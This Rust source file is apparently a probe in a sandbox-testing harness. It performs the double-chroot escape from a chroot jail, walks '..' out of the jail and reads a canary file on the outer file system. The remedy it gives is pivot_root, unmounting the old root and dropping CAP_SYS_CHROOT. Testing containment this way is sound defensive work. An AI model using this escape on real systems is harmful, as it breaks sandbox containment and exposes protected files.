//! Leaves a chroot jail by a second chroot.
//!
//! chroot(2) changes the root and leaves the working directory: a process with
//! CAP_SYS_CHROOT makes some directory below its own root the new root, stands
//! above that now, and walks `..` up to the true root, because a walk stops
//! only at the root that the process has, and that is somewhere below.
//! `chroot(".")` there gives it the whole outer file system.
//!
//! After pivot_root(2) and an unmount of the old root the walk ends in the
//! sandbox's own root. Without CAP_SYS_CHROOT there is no second chroot.

use std::fs;
use std::path::{Path, PathBuf};

use nix::unistd::{chdir, chroot};

use crate::{Canary, Class, Context, Guard, Need, Probe, Proof, Refusal, Stop};

pub(crate) const PROBE: Probe = Probe {
    class: Class::Filesystem,
    canary: Canary::FileTree,
    stops: &[
        Stop {
            guards: &[Guard::PivotRoot],
            refusal: Refusal::Errno(&[libc::ENOENT]),
        },
        Stop {
            guards: &[Guard::Capabilities],
            refusal: Refusal::Errno(&[libc::EPERM]),
        },
    ],
    needs: &[Need::ArenaRoot],
    proof: Proof::Read,
    claims: &["S2"],
    refs: &["chroot(2)", "pivot_root(2)"],
    remedy: "enter the root by pivot_root(), unmount the old one, and drop CAP_SYS_CHROOT",
    attempt,
};

/// Directories that roots tend to have: the jail in the jail.
const USUAL: [&str; 6] = ["/tmp", "/dev", "/proc", "/usr", "/etc", "/work"];

/// More levels than that no path has.
const LEVELS: usize = 128;

fn attempt(cx: &mut Context) {
    let Some(secret) = cx.path("secret") else {
        return;
    };
    if cx.step("chdir /", chdir("/")).is_err() {
        return;
    }
    let Some(below) = directory_below_root(cx) else {
        return;
    };
    if cx.step("chroot", chroot(&below)).is_err() {
        return;
    }
    // Above the new root, so this walk is not stopped by it.
    let _ = cx.step("chdir ..", walk_up());
    let _ = cx.step("chroot .", chroot("."));
    if let Ok(bytes) = cx.attempt_io("open", fs::read(&secret)) {
        cx.secret(&bytes);
    }
}

/// Some directory below the root; a new one only where there is none, so that
/// an uncontained run leaves nothing behind.
fn directory_below_root(cx: &Context) -> Option<PathBuf> {
    let usual = USUAL.iter().map(PathBuf::from);
    let others = fs::read_dir("/").into_iter().flatten().flatten();
    let there = usual
        .chain(others.map(|entry| entry.path()))
        .find(|path| fs::symlink_metadata(path).is_ok_and(|found| found.is_dir()));
    if there.is_some() {
        return there;
    }
    let made = Path::new("/below");
    cx.attempt_io("mkdir", fs::create_dir(made)).ok()?;
    Some(made.to_owned())
}

/// Goes up more levels than there are: at the top, `..` stays there.
fn walk_up() -> nix::Result<()> {
    (0..LEVELS).try_for_each(|_| chdir(".."))
}
